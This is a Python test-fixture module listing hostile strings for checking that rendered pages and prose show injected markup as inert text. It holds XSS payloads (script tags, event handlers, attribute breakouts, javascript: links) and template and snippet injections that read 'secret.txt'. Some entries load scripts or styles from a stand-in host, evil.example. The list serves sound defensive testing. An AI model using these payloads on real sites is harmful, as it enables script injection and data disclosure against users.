"""Text that means harm, as data: whatever it says, a page shows it as text.

`text` goes into a field. `prose` is what a reader then sees of it where a field is a model's prose, in which emphasis,
code and entities count; None: the same.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """One text that means harm. `name` names it in a test's id."""

    name: str
    text: str
    prose: str | None = None


PAYLOADS = (
    Payload("script", "<script>window.__xss=1</script>"),
    Payload("script end", "</script><script src=//evil.example/x.js></script>"),
    Payload("image", "<img src=x onerror=window.__xss=1>"),
    Payload("image of elsewhere", "<img src=https://evil.example/pixel.png>"),
    Payload("svg", "<svg/onload=window.__xss=1><animate onbegin=window.__xss=1>"),
    Payload("frame", "<iframe srcdoc='<script>parent.__xss=1</script>'>"),
    Payload("base", "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>"),
    Payload("style", "<style>@import url(//evil.example/x.css);</style>"),
    Payload("out of title", "</title></textarea></style><script>window.__xss=1</script>"),
    Payload("out of attribute", "\"'><b onmouseover=window.__xss=1 autofocus onfocus=window.__xss=1>"),
    Payload("quotes in attribute", "' onmouseover='window.__xss=1' \" onfocus=\"window.__xss=1\" x="),
    Payload("out of code", "</code></pre></div><script>window.__xss=1</script>"),
    Payload("comment", "<!-- --!><script>window.__xss=1</script><![CDATA[<b>]]>"),
    Payload("entities", "&lt;script&gt;window.__xss=1&lt;/script&gt;&#60;b&#62;", "<script>window.__xss=1</script><b>"),
    Payload("link", "[a](javascript:window.__xss=1)"),
    Payload("data link", "[a](data:text/html;base64,PHNjcmlwdD4=)"),
    Payload("image link", "![a](https://evil.example/pixel.png 'x')"),
    Payload("reference", "[a]: javascript:window.__xss=1 'x' [a] [a][]"),
    Payload("autolink", "<javascript:window.__xss=1> <https://evil.example/> https://evil.example/"),
    Payload("jinja", "{{ config.site_name }}{% include 'secret.txt' %}{{ 7*7 }}{# #}"),
    Payload("snippet", '--8<-- "secret.txt"'),
    Payload("snippet block", ";--8<-- secret.txt -8<- 'secret.txt' {! secret.txt !} {% raw %}"),
    Payload("attribute list", "{: onclick=window.__xss=1 #main .x } {onclick=window.__xss=1}"),
    Payload("extensions", ':::python !!! note "x" ??? x === "tab" [TOC] [[wiki]] ^^a^^ ==a== ++ctrl++ :smile: $x$'),
    Payload("critic", "{++a++}{--b--}{~~a~>b~~}{==c==}{>>d<<} H~2~O x^2^ [^1]"),
    Payload("template", "${window.__xss=1} <%= 7*7 %> #{7*7} {{constructor.constructor('window.__xss=1')()}}"),
    Payload("separators", "<script\u2028>window.__xss=1</script\u2029>"),
    Payload("bidi", "a\u202ecba\u202c \u2066b\u2069 \u2067c\u2069 \u202dd\u202c \u200ee\u200f"),
    Payload("invisible", "a\u200bb\u2060c\ufeffd\u00ade\u180ef\u3164g\U000e0061\U000e007fh\u034fi\U000e0101j\u206ak"),
    Payload("joiners", "a\u200cb\u200dc \U0001f469\u200d\U0001f4bb"),
    Payload("odd characters", "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e \ufffd \u0130 \ufdfa"),
)
